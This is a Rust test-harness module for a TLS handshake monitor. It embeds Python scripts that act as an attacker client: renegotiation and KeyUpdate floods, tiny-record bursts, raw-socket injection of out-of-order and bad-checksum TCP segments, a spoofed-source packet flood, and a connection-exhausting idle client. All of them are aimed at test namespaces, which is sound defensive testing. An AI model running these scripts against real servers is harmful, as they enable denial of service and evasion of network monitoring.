//! The attacker's TLS client: a Python script that drives the system libssl
//! through `ctypes`, so it holds the session keys and controls what a real
//! client controls: when it renegotiates (`SSL_renegotiate`), how it writes
//! (one record per byte under `TCP_CORK`: thousands of tiny records in one
//! super-packet), its own TCP sequence space (`TCP_REPAIR` to read it, a
//! raw socket to send a segment out of order) and when it sends KeyUpdates
//! (`SSL_key_update`). The same script is the benign client of the
//! download and small-request workloads.
//!
//! It prints one line per step (`CONNECTED PORT VERSION IP`, `RENEG I ok|fail`,
//! `DOWNLOADED N`, `BURST N`, `OOO SEQ`, `PING I ok|fail`, `KEYUPDATE I`,
//! `DONE`), so a test reads the client's own account of what happened.
//! Every blocking call has a socket timeout.

use crate::netns::ns_cmd;
use crate::process::Proc;
use anyhow::{Context, Result};
use std::net::SocketAddr;
use std::path::Path;
use std::time::Duration;

/// The client script. Arguments: `HOST PORT` then steps, in order:
/// `tls=1.2|1.3`, `bind=IP:PORT`, `timeout=S` (the socket's receive and
/// send timeouts, default 3 s), `download=N` (read N bytes), `upload=N` (write N bytes of application
/// data in 16 KiB writes),
/// `burst=N` (N one-byte records in one corked write),
/// `ooo` (one 1-byte segment at snd_nxt + 200 through a raw socket, then a
/// 400-byte record that covers it), `badsum` (a segment with a wrong TCP
/// checksum at snd_nxt, 100 bytes starting with a 16 KiB application-data
/// record header:
/// TCP discards it, a hook before TCP's checksum check may not), `reneg=N` (N renegotiations, each
/// `SSL_renegotiate` + `SSL_do_handshake`), `ping=N,MS,TEXT` (N writes of
/// TEXT every MS ms, each answered by the server), `keyupdate=N,MS`,
/// `kuflood=N,MS,BREAK` (N KeyUpdates with `update_requested` every MS ms,
/// and after every BREAK of them one 6-byte write, a 23-byte record: an
/// attacker breaking its streak; BREAK 0: none; prints `KEYUPDATE I` and
/// `BREAK I`), `push=N,MS` (asks the [`crate::pyssl`] server to push N
/// 5-byte messages every MS ms and reads them: `PUSHED N`), `beat=N,MS`
/// (N 5-byte heartbeats `~beat` every MS ms, each answered by that server
/// with 9 bytes: `BEAT I ok|fail`), `hold=S`
/// (stay connected S seconds), `wait` (read stdin until a line),
/// `awaitclose=S` (up to S seconds for the server side to end the
/// connection: prints `CLOSED reset|eof|open`).
pub const SCRIPT: &str = r#"import ctypes, socket, struct, sys, time

lib = ctypes.CDLL("libssl.so.3", use_errno=True)
P = ctypes.c_void_p
for name, res, args in [
    ("TLS_client_method", P, []), ("SSL_CTX_new", P, [P]), ("SSL_new", P, [P]),
    ("SSL_set_fd", ctypes.c_int, [P, ctypes.c_int]), ("SSL_connect", ctypes.c_int, [P]),
    ("SSL_read", ctypes.c_int, [P, ctypes.c_char_p, ctypes.c_int]),
    ("SSL_write", ctypes.c_int, [P, ctypes.c_char_p, ctypes.c_int]),
    ("SSL_renegotiate", ctypes.c_int, [P]), ("SSL_do_handshake", ctypes.c_int, [P]),
    ("SSL_key_update", ctypes.c_int, [P, ctypes.c_int]),
    ("SSL_get_error", ctypes.c_int, [P, ctypes.c_int]),
    ("SSL_CTX_ctrl", ctypes.c_long, [P, ctypes.c_int, ctypes.c_long, P]),
    ("SSL_get_version", ctypes.c_char_p, [P]), ("SSL_shutdown", ctypes.c_int, [P]),
]:
    f = getattr(lib, name); f.restype = res; f.argtypes = args

def out(*a):
    print(*a, flush=True)

host, port = sys.argv[1], int(sys.argv[2])
steps = sys.argv[3:]
opts = dict(s.split("=", 1) if "=" in s else (s, "") for s in steps)
ctx = lib.SSL_CTX_new(lib.TLS_client_method())
ver = {"1.2": 0x0303, "1.3": 0x0304}.get(opts.get("tls", ""))
if ver:
    lib.SSL_CTX_ctrl(ctx, 123, ver, None)  # SSL_CTRL_SET_MIN_PROTO_VERSION
    lib.SSL_CTX_ctrl(ctx, 124, ver, None)  # SSL_CTRL_SET_MAX_PROTO_VERSION
sock = socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET, socket.SOCK_STREAM)
sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
if "bind" in opts:
    bh, bp = opts["bind"].rsplit(":", 1)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    sock.bind((bh, int(bp)))
sock.settimeout(10)
sock.connect((host, port))
sock.settimeout(None)
tmo = int(opts.get("timeout", "3"))
sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVTIMEO, struct.pack("ll", tmo, 0))
sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDTIMEO, struct.pack("ll", tmo, 0))
s = lib.SSL_new(ctx)
lib.SSL_set_fd(s, sock.fileno())
if lib.SSL_connect(s) != 1:
    out("ERROR handshake"); sys.exit(2)
out("CONNECTED", sock.getsockname()[1], lib.SSL_get_version(s).decode(), sock.getsockname()[0])
buf = ctypes.create_string_buffer(65536)

def csum(data):
    if len(data) % 2:
        data += b"\0"
    t = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while t >> 16:
        t = (t & 0xFFFF) + (t >> 16)
    return ~t & 0xFFFF

def queue_seq(q):
    sock.setsockopt(socket.IPPROTO_TCP, 20, q)  # TCP_REPAIR_QUEUE
    return struct.unpack("I", sock.getsockopt(socket.IPPROTO_TCP, 21, 4))[0]  # TCP_QUEUE_SEQ

for step in steps:
    key, _, val = step.partition("=")
    if key == "download":
        want, got, why = int(val), 0, ""
        end = time.monotonic() + 60
        while got < want:
            n = lib.SSL_read(s, buf, len(buf))
            if n <= 0:
                err, eno = lib.SSL_get_error(s, n), ctypes.get_errno()
                # A slow server (SO_RCVTIMEO): keep reading until the deadline.
                if (err == 2 or (err == 5 and eno == 11)) and time.monotonic() < end:
                    continue
                why = "error %d errno %d" % (err, eno)
                break
            got += n
        out("DOWNLOADED", got, why)
    elif key == "upload":
        want, sent = int(val), 0
        chunk = b"u" * 16384
        while sent < want:
            n = lib.SSL_write(s, chunk, min(len(chunk), want - sent))
            if n <= 0:
                break
            sent += n
        out("UPLOADED", sent)
    elif key == "burst":
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 0)
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_CORK, 1)
        n = sum(1 for _ in range(int(val)) if lib.SSL_write(s, b"x", 1) == 1)
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_CORK, 0)
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        out("BURST", n)
    elif key == "ooo":
        sock.setsockopt(socket.IPPROTO_TCP, 19, 1)  # TCP_REPAIR
        snd, rcv = queue_seq(2), queue_seq(1)
        sock.setsockopt(socket.IPPROTO_TCP, 19, 0)
        src, sport = sock.getsockname()
        dst, dport = sock.getpeername()
        seq = (snd + 200) & 0xFFFFFFFF
        payload = b"\x17"
        hdr = struct.pack("!HHIIBBHHH", sport, dport, seq, rcv, 5 << 4, 0x18, 502, 0, 0)
        pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 6, len(hdr) + len(payload))
        c = csum(pseudo + hdr + payload)
        hdr = hdr[:16] + struct.pack("!H", c) + hdr[18:]
        raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
        raw.sendto(hdr + payload, (dst, 0))
        raw.close()
        time.sleep(0.2)
        # A record that covers the stray byte, so the server's stream stays intact.
        lib.SSL_write(s, b"y" * 400, 400)
        out("OOO", seq)
    elif key == "badsum":
        # At snd_nxt, a segment TCP will discard (wrong checksum) carrying
        # the header of a 16 KiB application-data record; the real bytes
        # follow at the same sequence number.
        sock.setsockopt(socket.IPPROTO_TCP, 19, 1)  # TCP_REPAIR
        snd, rcv = queue_seq(2), queue_seq(1)
        sock.setsockopt(socket.IPPROTO_TCP, 19, 0)
        src, sport = sock.getsockname()
        dst, dport = sock.getpeername()
        # 100 bytes: past the 76 below which the kernel checks a TCP
        # checksum before the socket's filters run.
        payload = b"\x17\x03\x03\x40\x00" + b"\x00" * 95
        hdr = struct.pack("!HHIIBBHHH", sport, dport, snd, rcv, 5 << 4, 0x18, 502, 0, 0)
        pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 6, len(hdr) + len(payload))
        c = csum(pseudo + hdr + payload) ^ 0x5A5A
        hdr = hdr[:16] + struct.pack("!H", c) + hdr[18:]
        raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
        raw.sendto(hdr + payload, (dst, 0))
        raw.close()
        time.sleep(0.2)
        out("BADSUM", snd)
    elif key == "reneg":
        for i in range(1, int(val) + 1):
            r1 = lib.SSL_renegotiate(s)
            r2 = lib.SSL_do_handshake(s)
            ok = r1 == 1 and r2 == 1
            out("RENEG", i, "ok" if ok else "fail", r1, r2, lib.SSL_get_error(s, r2), ctypes.get_errno())
            if not ok:
                break
    elif key == "ping":
        n, ms, text = val.split(",", 2)
        text = text.encode().decode("unicode_escape").encode()
        for i in range(1, int(n) + 1):
            ok = lib.SSL_write(s, text, len(text)) == len(text)
            got = b""
            while ok and len(got) < len(text):
                r = lib.SSL_read(s, buf, len(buf))
                if r <= 0:
                    ok = False
                    break
                got += buf.raw[:r]
            out("PING", i, "ok" if ok and got == text else "fail")
            if not ok:
                break
            time.sleep(int(ms) / 1000)
    elif key == "keyupdate":
        n, ms = val.split(",")
        for i in range(1, int(n) + 1):
            r1 = lib.SSL_key_update(s, 1)
            r2 = lib.SSL_do_handshake(s)
            out("KEYUPDATE", i, r1, r2)
            if r1 != 1 or r2 != 1:
                break
            time.sleep(int(ms) / 1000)
    elif key == "kuflood":
        n, ms, brk = (int(x) for x in val.split(","))
        for i in range(1, n + 1):
            r1 = lib.SSL_key_update(s, 1)
            r2 = lib.SSL_do_handshake(s)
            out("KEYUPDATE", i, r1, r2)
            if r1 != 1 or r2 != 1:
                break
            if brk and i % brk == 0:
                w = lib.SSL_write(s, b"brk123", 6)
                out("BREAK", i, w)
                if w != 6:
                    break
            time.sleep(int(ms) / 1000)
    elif key == "push":
        n, ms = val.split(",")
        msg = ("PUSH %s %s" % (n, ms)).encode()
        want, got = 5 * int(n), 0
        if lib.SSL_write(s, msg, len(msg)) == len(msg):
            while got < want:
                r = lib.SSL_read(s, buf, len(buf))
                if r <= 0:
                    break
                got += r
        out("PUSHED", got // 5)
    elif key == "beat":
        n, ms = val.split(",")
        for i in range(1, int(n) + 1):
            ok = lib.SSL_write(s, b"~beat", 5) == 5
            got = b""
            while ok and len(got) < 9:
                r = lib.SSL_read(s, buf, len(buf))
                if r <= 0:
                    ok = False
                    break
                got += buf.raw[:r]
            out("BEAT", i, "ok" if ok and got == b"~beat-ack" else "fail")
            if not ok:
                break
            time.sleep(int(ms) / 1000)
    elif key == "awaitclose":
        end = time.monotonic() + float(val)
        state = "open"
        sock.setblocking(False)
        while time.monotonic() < end:
            try:
                if sock.recv(65536, socket.MSG_PEEK) == b"":
                    state = "eof"; break
                # Records still queued (an alert): read them away.
                sock.recv(65536)
            except BlockingIOError:
                time.sleep(0.05)
            except ConnectionResetError:
                state = "reset"; break
            except OSError as e:
                state = "error-%d" % e.errno; break
        out("CLOSED", state)
        sock.setblocking(True)
    elif key == "hold":
        time.sleep(float(val))
    elif key == "wait":
        sys.stdin.readline()
out("DONE")
lib.SSL_shutdown(s)
"#;

/// The forged-source flood: `dst_ip dst_port count`. Sends `count`
/// one-segment TCP packets (ACK|PSH, payload a TLS handshake record header
/// and a ClientHello's first bytes: first byte 0x16) to `dst_ip:dst_port`
/// through a raw socket with `IP_HDRINCL`, each from its own forged source
/// address in 10.128.0.0/9; prints `FLOODED N SECONDS`. Only ever pointed at
/// a namespace the test created.
pub const FLOOD_SCRIPT: &str = r#"import socket, struct, sys, time
dst, dport, count = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
raw.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
payload = bytes([0x16, 0x03, 0x01, 0x00, 0x40, 0x01, 0x00, 0x00, 0x3c, 0x03, 0x03]) + b"\0" * 16
d = socket.inet_aton(dst)
start = time.monotonic()
sent = 0
for i in range(count):
    src = struct.pack("!I", (10 << 24) | (1 << 23) | (i + 1))
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40 + len(payload), 0, 0x4000, 64, 6, 0, src, d)
    tcp = struct.pack("!HHIIBBHHH", 1024 + i % 60000, dport, 1000 + i, 1, 5 << 4, 0x18, 65535, 0, 0)
    raw.sendto(ip + tcp + payload, (dst, 0))
    sent += 1
print("FLOODED", sent, round(time.monotonic() - start, 2), flush=True)
"#;

/// Runs [`FLOOD_SCRIPT`] in namespace `ns` against `dst` (at most 120 s);
/// returns how many packets it sent.
pub fn flood(ns: &str, dir: &Path, dst: SocketAddr, count: usize) -> Result<usize> {
    let script = dir.join("hsmon_flood.py");
    std::fs::write(&script, FLOOD_SCRIPT)
        .with_context(|| format!("writing {}", script.display()))?;
    let mut c = ns_cmd(ns, crate::pyssl::python());
    c.arg(&script)
        .arg(dst.ip().to_string())
        .arg(dst.port().to_string())
        .arg(count.to_string());
    let out = crate::cmd::run_ok(&mut c, Duration::from_secs(120))?;
    out.lines()
        .find_map(|l| l.strip_prefix("FLOODED "))
        .and_then(|r| r.split_whitespace().next())
        .and_then(|n| n.parse().ok())
        .with_context(|| format!("the flood printed {out:?}"))
}

/// Idle control-socket clients: `SOCKET N` connects N times to the Unix
/// socket (waiting up to 60 s in all while the listener's backlog is
/// full), prints `HELD N` (or `HELD K error` when a connect fails), then
/// holds them until stdin closes.
pub const IDLE_SCRIPT: &str = r#"import socket, sys, time
path, n = sys.argv[1], int(sys.argv[2])
held, why = [], ""
end = time.monotonic() + 60
while len(held) < n and not why:
    c = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    c.settimeout(5)
    try:
        c.connect(path)
        held.append(c)
    except BlockingIOError as e:
        # The listener's backlog is full: wait for the agent to accept.
        c.close()
        if time.monotonic() >= end:
            why = repr(e)
        time.sleep(0.01)
    except OSError as e:
        why = repr(e); c.close()
print("HELD", len(held), why, flush=True)
sys.stdin.read()
"#;

/// A process holding idle connections to a Unix socket
/// ([`IDLE_SCRIPT`]); they close when it is dropped (killed).
pub struct IdleClients {
    /// The process (stdin is a pipe; closing it ends the script).
    pub proc: Proc,
}

impl IdleClients {
    /// Starts the script with `n` connections to `socket` and waits (at
    /// most `timeout`) until it holds them; returns it and how many it
    /// holds.
    pub fn start(
        dir: &Path,
        name: &str,
        socket: &Path,
        n: usize,
        timeout: Duration,
    ) -> Result<(Self, usize)> {
        let script = dir.join("hsmon_idle.py");
        std::fs::write(&script, IDLE_SCRIPT)
            .with_context(|| format!("writing {}", script.display()))?;
        let mut c = std::process::Command::new(crate::pyssl::python());
        c.arg(&script).arg(socket).arg(n.to_string());
        let mut proc = Proc::spawn(name, c, dir, true)?;
        proc.wait_for("HELD", timeout, |out, _| out.contains("HELD "))?;
        let held = proc
            .stdout()
            .lines()
            .find_map(|l| l.strip_prefix("HELD "))
            .and_then(|r| r.split_whitespace().next())
            .and_then(|v| v.parse().ok())
            .context("no count in the HELD line")?;
        Ok((Self { proc }, held))
    }
}

/// A running attacker (or benign) client.
pub struct Client {
    /// The process (stdin is a pipe: the `wait` step reads a line).
    pub proc: Proc,
}

impl Client {
    /// Writes the script to `dir` and starts it in namespace `ns` against
    /// `server` with `steps` (see [`SCRIPT`]).
    pub fn start(
        ns: &str,
        dir: &Path,
        name: &str,
        server: SocketAddr,
        steps: &[String],
    ) -> Result<Self> {
        let script = dir.join("hsmon_attack.py");
        std::fs::write(&script, SCRIPT).with_context(|| format!("writing {}", script.display()))?;
        let mut c = ns_cmd(ns, crate::pyssl::python());
        c.arg(&script)
            .arg(server.ip().to_string())
            .arg(server.port().to_string())
            .args(steps);
        Ok(Self {
            proc: Proc::spawn(name, c, dir, true)?,
        })
    }

    /// Waits until the client printed `DONE` or exited (at most
    /// `timeout`); returns its stdout.
    pub fn finish(&mut self, timeout: Duration) -> String {
        let _ = crate::cmd::poll(timeout, Duration::from_millis(50), || {
            let out = self.proc.stdout();
            (out.contains("DONE") || !self.proc.is_running()).then_some(())
        });
        self.proc.stdout()
    }

    /// The client's local port (from `CONNECTED`).
    pub fn local_port(&self) -> Option<u16> {
        self.proc
            .stdout()
            .lines()
            .find_map(|l| l.strip_prefix("CONNECTED "))
            .and_then(|rest| rest.split_whitespace().next())
            .and_then(|p| p.parse().ok())
    }

    /// The client's local address (from `CONNECTED`).
    pub fn local_addr(&self) -> Option<SocketAddr> {
        let out = self.proc.stdout();
        let rest = out.lines().find_map(|l| l.strip_prefix("CONNECTED "))?;
        let f: Vec<&str> = rest.split_whitespace().collect();
        let ip: std::net::IpAddr = f.get(2)?.parse().ok()?;
        Some(SocketAddr::new(ip, f.first()?.parse().ok()?))
    }

    /// Waits until the client is connected (at most `timeout`).
    pub fn wait_connected(&mut self, timeout: Duration) -> Result<u16> {
        self.proc
            .wait_for("CONNECTED", timeout, |out, _| out.contains("CONNECTED "))?;
        self.local_port().context("no port in the CONNECTED line")
    }
}

/// Lines of `out` that start with `word` and whose third field is `ok`
/// (`RENEG 3 ok …`, `PING 7 ok`).
pub fn ok_count(out: &str, word: &str) -> usize {
    out.lines()
        .filter(|l| {
            let mut f = l.split_whitespace();
            f.next() == Some(word) && f.nth(1) == Some("ok")
        })
        .count()
}

/// Lines of `out` that start with `word`.
pub fn step_count(out: &str, word: &str) -> usize {
    out.lines()
        .filter(|l| l.split_whitespace().next() == Some(word))
        .count()
}

#[cfg(test)]
mod unit {
    use super::*;

    #[test]
    fn counts_the_client_lines() {
        let out = "CONNECTED 40000 TLSv1.2 10.0.0.2\nRENEG 1 ok 1 1 0\nRENEG 2 ok 1 1 0\n\
                   RENEG 3 fail 1 -1 5\nPING 1 ok\nDONE\n";
        assert_eq!(ok_count(out, "RENEG"), 2);
        assert_eq!(step_count(out, "RENEG"), 3);
        assert_eq!(ok_count(out, "PING"), 1);
    }
}
